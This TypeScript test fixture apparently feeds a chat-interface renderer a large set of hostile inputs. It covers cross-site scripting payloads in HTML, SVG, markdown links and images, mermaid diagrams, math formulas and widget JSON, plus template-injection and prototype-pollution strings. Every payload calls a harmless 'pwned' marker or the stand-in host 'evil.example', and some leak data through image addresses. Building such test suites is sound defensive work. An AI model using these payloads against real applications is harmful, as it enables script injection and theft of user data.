/**
 * Hostile texts, our own: what was tried on comparable applications and what else comes to mind. All call `pwned` where
 * one of them gets to run, and ask `evil.example` where one gets to ask. Rows: `tests/support/gauntlet-rows.ts`.
 */

const fence = (language: string, ...lines: string[]) => [`\`\`\`${language}`, ...lines, '```'].join('\n');
const svg = (inner: string) =>
  `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`)}`;

/** Markdown that streams in; every prefix of each is drawn. */
export const STREAMED: Readonly<Record<string, readonly string[]>> = {
  'markup (6, 15)': [
    '<script>pwned(1)</script><img src=x onerror=pwned(1)><img src=x onerror="pwned(1)"//',
    '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe><iframe src="javascript:parent.pwned(1)"></iframe>',
    '<object data="javascript:pwned(1)"></object><embed src="//evil.example/e.swf"><applet code=x>',
    '<form action="https://evil.example/f"><input autofocus onfocus=pwned(1)><button formaction="javascript:pwned(1)">go</button></form>',
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/l.css><meta http-equiv=refresh content="0;url=//evil.example/">',
    '<style>@import "//evil.example/s.css";*{background:url(//evil.example/b)}</style><p style="background:url(//evil.example/p)">x',
    '<details open ontoggle=pwned(1)><video src=//evil.example/v onerror=pwned(1) autoplay></video><audio src=x onerror=pwned(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
    '<template shadowrootmode=open><img src=x onerror=pwned(1)></template><openai-chatkit></openai-chatkit>',
    '<a href="javascript:pwned(1)" ping="//evil.example/p" onclick=pwned(1)>x</a><area href=javascript:pwned(1)>',
    '<scr\u0000ipt>pwned(1)</scr\u0000ipt><<script>pwned(1)//<</script>\u202E<img src=x onerror=pwned(1)>👩‍👩‍👧é',
    '&lt;img src=x onerror=pwned(1)&gt; &#60;script&#62;pwned(1)&#60;/script&#62; \\<b onclick=pwned(1)>',
    '|a|b|\n|-|-|\n|<img src=x onerror=pwned(1)>|[x](javascript:pwned(1))|',
    '- [x] <img src=x onerror=pwned(1)>\n> # <svg onload=pwned(1)>\n\nx[^1]\n\n[^1]: <img src=x onerror=pwned(1)>',
  ],
  'pictures as markup (9)': [
    '<svg onload=pwned(1)><animate onbegin=pwned(1) attributeName=x dur=1s><set attributeName=href to=javascript:pwned(1)></svg>',
    '<svg><foreignObject><img src=x onerror=pwned(1)></foreignObject><a xlink:href="javascript:pwned(1)"><text>x</text></a></svg>',
    '<svg><use href="//evil.example/u.svg#x"/><image href="//evil.example/i.png"/><script href="//evil.example/s.js"/></svg>',
    fence('svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"><script>pwned(1)</script></svg>'),
  ],
  'links (5)': [
    '[a](javascript:pwned(1)) [b](JaVaScRiPt:pwned(1)) [c](java&Tab;script:pwned(1)) [d](&#106;avascript:pwned(1)) [e](\u0001javascript:pwned(1))',
    '[a](<data:text/html,<script>pwned(1)</script>>) [b](vbscript:pwned(1)) [c](file:///etc/passwd) [d](blob:http://x/1) [e](about:blank)',
    '[a](foyer://new?text=x) [b](smb://evil.example/x) [c](ms-msdt:/id) [d](search-ms:query=x) [e](ssh://evil.example) [f](tel:1)',
    '<javascript:pwned(1)> <https://evil.example/a"onmouseover="pwned(1)> [x][r]\n\n[r]: javascript:pwned(1) "title"',
    '[a](//evil.example/a) [b](/\\evil.example) [c](https:evil.example) [d](\\\\evil.example\\share) [e](http://127.0.0.1@evil.example/)',
    '[a](#x" onmouseover="pwned(1)) [b](/api/auth/logout) [c](?x) [d](../admin) [e](chatkit-link:open?x=javascript:pwned(1))',
  ],
  'pictures by address (9, 20)': [
    '![x](https://evil.example/?q=secret) ![y](//evil.example/y "t") ![z](/\\evil.example/z) ![w](\\\\evil.example/w)',
    '![x](javascript:pwned(1)) ![h](<data:text/html,<script>pwned(1)</script>>) ![f](file:///etc/passwd) ![b](blob:x)',
    '![s](<data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"/>>)',
    `![s](${svg('<script>pwned(1)</script><image href="https://evil.example/i.png"/>')})`,
    `![s](${svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>')})`,
    '[![x](https://evil.example/i)](javascript:pwned(1)) ![x" onerror="pwned(1)](x" onerror="pwned(1))',
  ],
  'code (8)': [
    fence('html', '<script>pwned(1)</script><img src=x onerror=pwned(1)>'),
    fence('"><img src=x onerror=pwned(1)>', 'x'),
    `${fence('__proto__', 'x')}\n\n${fence('constructor', 'y')}\n\n${fence('../../x', 'z')}`,
    fence(
      'echarts',
      '{"tooltip":{"formatter":"function(){pwned(1)}"},"x":"</script><script>pwned(1)</script>"}',
    ),
  ],
  'diagrams (7, 10)': [
    fence('mermaid', 'graph TD; A["<img src=x onerror=pwned(1)>"]-->B; click A "javascript:pwned(1)"'),
    fence(
      'mermaid',
      '%%{init:{"securityLevel":"loose","htmlLabels":true,"themeCSS":"@import url(//evil.example/m)"}}%%',
      'graph TD;A["<iframe src=javascript:parent.pwned(1)>"]-->B',
      'click A call pwned(1)',
    ),
    fence(
      'mermaid',
      'flowchart TD',
      'A@{ img: "https://evil.example/i.png", label: "x" }',
      'click A href "file:///x" _blank',
    ),
    fence(
      'mermaid',
      'classDiagram',
      'class A { <img src=x onerror=pwned(1)> }',
      'link A "javascript:pwned(1)"',
    ),
    fence(
      'mermaid',
      '---',
      'config: {securityLevel: loose}',
      '---',
      'sequenceDiagram',
      'A->>B: <script>fetch("/api/users/me")</script>',
    ),
  ],
  'formulas (6)': [
    '$\\href{javascript:pwned(1)}{x}$ $\\url{javascript:pwned(1)}$ $\\includegraphics{https://evil.example/t.png}$',
    '$\\htmlStyle{background:url(//evil.example/h)}{x}$ $\\htmlData{onclick=pwned(1)}{x}$ $\\htmlId{x" onclick="pwned(1)}{y}$',
    '$$\\text{<img src=x onerror=pwned(1)>}$$ $\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ \\(\\unicode{<script>}\\)',
  ],
};

/** Put whole into every place of the protocol that takes a text. */
export const STRINGS: readonly string[] = [
  '"><img src=x onerror=pwned(1)>',
  "'><svg/onload=pwned(1)>",
  'javascript:pwned(1)',
  'data:text/html,<script>pwned(1)</script>',
  'https://evil.example/x"onmouseover="pwned(1)',
  '//evil.example/x',
  '[x](javascript:pwned(1))<script>pwned(1)</script>![y](https://evil.example/y)',
  'red;background:url(https://evil.example/u)',
  '</style><script>pwned(1)</script>',
  // What a template engine of another kind would run.
  ['$', '{pwned(1)}{{constructor.constructor("pwned(1)")()}}<%= pwned(1) %>'].join(''),
  '__proto__',
  svg('<script>pwned(1)</script>'),
];

type Json = Record<string, unknown>;

/** Every kind of item, with this text wherever one can stand. */
export function itemsWith(text: string, at: number): Json[] {
  const base = { thread_id: 'thr_gauntlet', created_at: '2026-01-01T00:00:00Z' };
  const urlSource = {
    type: 'url',
    title: text,
    description: text,
    url: text,
    attribution: text,
    group: text,
    timestamp: text,
  };
  const fileSource = { type: 'file', title: text, filename: text, description: text };
  const entity = {
    ...{ type: 'entity', id: text, title: text, icon: `lucide:${text}`, label: text, inline_label: text },
    ...{ interactive: true, data: { [text]: text, href: text, url: text }, preview: 'lazy' },
  };
  const annotations = [urlSource, fileSource, entity].map((source, index) => ({
    type: 'annotation',
    source,
    index,
  }));
  const task = { status_indicator: 'loading', title: text };
  const tasks = [
    { type: 'custom', ...task, content: text, icon: `vendor:${text}` },
    { type: 'web_search', ...task, title_query: text, queries: [text], sources: [urlSource] },
    { type: 'thought', ...task, content: text },
    { type: 'file', ...task, sources: [fileSource] },
    { type: 'image', ...task },
  ];
  const id = (kind: string) => `${kind}_${at}`;
  return [
    {
      ...base,
      type: 'assistant_message',
      id: id('a'),
      content: [{ type: 'output_text', text: `See ${text}`, annotations }],
    },
    {
      ...base,
      type: 'workflow',
      id: id('w'),
      workflow: { type: 'custom', tasks, summary: { title: text, icon: `lucide:${text}` }, expanded: true },
    },
    { ...base, type: 'task', id: id('t'), task: tasks[0] },
    {
      ...base,
      type: 'client_tool_call',
      id: id('c'),
      status: 'completed',
      call_id: text,
      name: text,
      arguments: { [text]: text },
      output: text,
    },
    { ...base, type: 'generated_image', id: id('g'), image: { id: text, url: text } },
    { ...base, type: 'widget', id: id('x'), widget: widgetWith(text), copy_text: text },
    { ...base, type: 'widget', id: id('l'), widget: listWith(text) },
  ];
}

const action = (text: string) => ({ type: text, payload: { [text]: text, url: text } });

function widgetWith(text: string): Json {
  const chart = {
    type: 'Chart',
    data: [
      { x: text, [text]: 1, value: 2 },
      { x: 'b', [text]: 3, value: 4 },
    ],
    series: [
      { type: 'bar', label: text, dataKey: text, color: text },
      { type: 'line', label: text, dataKey: 'value', color: { light: text, dark: text } },
    ],
    xAxis: { dataKey: 'x', labels: { [text]: text, b: text } },
    showLegend: true,
    showTooltip: true,
    showYAxis: true,
  };
  return {
    type: 'Card',
    background: text,
    status: { text, icon: `lucide:${text}` },
    confirm: { label: text, action: action(text) },
    children: [
      { type: 'Title', value: text, color: text },
      { type: 'Text', value: text, color: text, width: text, id: text },
      { type: 'Caption', value: text },
      { type: 'Markdown', value: text },
      { type: 'Markdown', value: `<img src=x onerror=pwned(1)> ${text}`, streaming: true },
      { type: 'Label', value: text, fieldName: text },
      { type: 'Badge', label: text },
      { type: 'Icon', name: `lucide:${text}`, color: text },
      { type: 'Image', src: text, alt: text, background: text, height: text, width: text },
      { type: 'Button', label: text, onClickAction: action(text), iconStart: `vendor:${text}` },
      {
        type: 'Select',
        name: text,
        options: [{ value: text, label: text, description: text }],
        placeholder: text,
        defaultValue: text,
      },
      { type: 'Input', name: text, defaultValue: text, placeholder: text, inputType: 'url' },
      { type: 'Textarea', name: text, defaultValue: text },
      { type: 'Checkbox', name: text, label: text },
      { type: 'RadioGroup', name: text, ariaLabel: text, options: [{ label: text, value: text }] },
      {
        type: 'Box',
        background: text,
        border: { size: 1, color: text },
        padding: text,
        width: text,
        children: [{ type: 'Text', value: text }],
      },
      { type: 'Divider', color: text, spacing: text },
      chart,
      { type: text, value: text, onclick: text, dangerouslySetInnerHTML: { __html: text }, children: [text] },
      { type: 'script', value: 'pwned(1)', children: 'pwned(1)' },
      {
        type: 'Text',
        value: 'x',
        dangerouslySetInnerHTML: { __html: '<img src=x onerror=pwned(1)>' },
        onClick: 'pwned(1)',
      },
    ],
  };
}

function listWith(text: string): Json {
  const item = {
    type: 'ListViewItem',
    onClickAction: action(text),
    gap: text,
    children: [{ type: 'Text', value: text }],
  };
  return { type: 'ListView', status: { text }, children: [item] };
}

/** Events beside items, with this text; and some that no protocol has. */
export function eventsWith(text: string): Json[] {
  return [
    { type: 'progress_update', text, icon: `lucide:${text}` },
    { type: 'notice', level: 'danger', message: text, title: text },
    { type: 'client_effect', name: text, data: { [text]: text, script: 'pwned(1)' } },
    { type: 'execute', code: 'pwned(1)', script: text },
    { type: 'execute:python', data: { code: 'pwned(1)' } },
    { type: '__proto__', constructor: { prototype: { pwned: true } } },
    { type: 'thread.item.added', item: { type: 'html', id: text, html: '<img src=x onerror=pwned(1)>' } },
  ];
}
